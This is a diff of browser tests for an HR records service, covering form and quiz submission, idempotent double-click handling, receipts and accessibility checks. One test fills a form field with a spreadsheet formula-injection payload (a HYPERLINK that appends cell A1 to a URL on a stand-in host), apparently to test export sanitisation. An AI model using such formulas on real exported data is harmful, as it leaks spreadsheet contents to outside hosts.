@@ -11,9 +11,20 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import axe_violations
+from tests.quiz_driver import (
+    EMPLOYEE,
+    answer_by_click,
+    fill_person,
+    key,
+    presented,
+    quiz_data,
+    settled_axe_violations,
+)
 from tests.records_kit import TOKEN, Service, get, project_at, quiz_part
 
 pytestmark = pytest.mark.browser
+
+FORM_SUBMIT = "[data-hb-form] button[type=submit]"
 
 
 @pytest.fixture(scope="module")
@@ -48,7 +59,7 @@ def test_an_acknowledgement_reaches_the_service_and_the_export(service, built_si
     page.select_option("#ack-role", "employee")
     page.check("#ack-agree")
     page.fill("#ack-signature", "Zoë Browser")
-    page.click("[data-hb-record-button]")
+    page.dblclick("[data-hb-ack-form] button[type=submit]")  # one submission, however many clicks
     status = page.locator("[data-hb-record-status]")
     status.filter(has_text="Recorded by the records service").wait_for()
     assert axe_violations(page) == []
@@ -62,9 +73,8 @@ def test_an_acknowledgement_reaches_the_service_and_the_export(service, built_si
     assert page.outside_requests == []
 
 
-def test_a_form_reaches_the_service_and_the_export(service, page):
-    page.goto(f"{service.url}/forms/violation-report.html")
-    page.fill("#p-employee-id", "B-FORM-1")
+def fill_violation_report(page, employee_id: str) -> None:
+    page.fill("#p-employee-id", employee_id)
     page.fill("#p-name", "Form Browser")
     page.fill("#p-department", "Library")
     page.select_option("#p-role", "employee")
@@ -73,8 +83,26 @@ def test_a_form_reaches_the_service_and_the_export(service, page):
     page.fill("#f-description", "=HYPERLINK(\"http://x?\"&A1,\"y\") posted as a comment")
     page.fill("#f-signature", "Form Browser")
     page.fill("#f-signed-on", "2026-01-05")
-    page.click("form[data-hb-form] button[type=submit]")
-    page.locator("[data-hb-form-status]").filter(has_text="Sent.").wait_for()
+
+
+def send_and_wait(page, button: str) -> str:
+    """Click ``button`` and wait for the service's answer; returns the status shown."""
+    page.click(button)
+    return answered(page)
+
+
+def answered(page) -> str:
+    page.wait_for_function("""() => {
+        const status = document.querySelector('[data-hb-record-status]:not(:empty)');
+        return status && status.textContent !== 'Sending…';
+    }""")
+    return page.locator("[data-hb-record-status]").inner_text()
+
+
+def test_a_form_reaches_the_service_and_the_export(service, page):
+    page.goto(f"{service.url}/forms/violation-report.html")
+    fill_violation_report(page, "B-FORM-1")
+    assert send_and_wait(page, FORM_SUBMIT).startswith("Recorded by the records service")
     assert axe_violations(page) == []  # as the user left it: the focused Submit button included
     rows = {row["field_id"]: row for row in exported(service, "forms") if row["employee_id"] == "B-FORM-1"}
     assert rows["where"]["answer"] == "Facebook, Library page"
@@ -82,6 +110,40 @@ def test_a_form_reaches_the_service_and_the_export(service, page):
     assert rows["signature"]["form_id"] == "violation-report"
     assert rows["signature"]["answer"] == "Form Browser"
     assert page.outside_requests == []
+
+
+def test_double_clicking_submit_stores_one_form_and_its_receipt_carries_that_id(service, page):
+    """Issue 11: one submission is one record, whatever the person clicks; only a changed answer
+    makes a new one."""
+    page.goto(f"{service.url}/forms/violation-report.html")
+    fill_violation_report(page, "B-DOUBLE-1")
+    page.dblclick(FORM_SUBMIT)
+    first = answered(page)
+    assert first.startswith("Recorded by the records service")
+    assert send_and_wait(page, FORM_SUBMIT) == first  # once more, after it was stored: the same record
+    with page.expect_download() as info:
+        page.click("[data-hb-download='json']")
+    receipt = json.loads(Path(info.value.path()).read_text(encoding="utf-8"))
+    stored = {row["record_id"] for row in exported(service, "forms") if row["employee_id"] == "B-DOUBLE-1"}
+    assert stored == {receipt["id"]} and receipt["id"] in first
+    page.fill("#f-where", "Instagram, Library page")  # a changed answer is a new submission
+    second = send_and_wait(page, FORM_SUBMIT)
+    assert second.startswith("Recorded by the records service") and receipt["id"] not in second
+    rows = [row for row in exported(service, "forms") if row["employee_id"] == "B-DOUBLE-1"]
+    assert len({row["record_id"] for row in rows}) == 2
+
+
+def test_double_clicking_send_stores_one_quiz_attempt(service, page):
+    page.goto(f"{service.url}/{EMPLOYEE}")
+    data = quiz_data(page)
+    answer_by_click(page, {qid: key(data, qid) for qid, _ in presented(page)})
+    fill_person(page, "[data-hb-record-form]", employee_id="B-QUIZ-1", name="Quiz B", department="Parks")
+    page.dblclick("[data-hb-record-form] button[type=submit]")
+    status = answered(page)
+    rows = [row for row in exported(service, "quiz-attempts") if row["employee_id"] == "B-QUIZ-1"]
+    assert len(rows) == 1 and rows[0]["record_id"] in status
+    assert (rows[0]["score"], rows[0]["passed"]) == ("100", "yes")
+    assert settled_axe_violations(page) == []
 
 
 def test_hr_signs_in_by_keyboard_and_the_report_page_passes_axe(service, built_site, page, tmp_path):
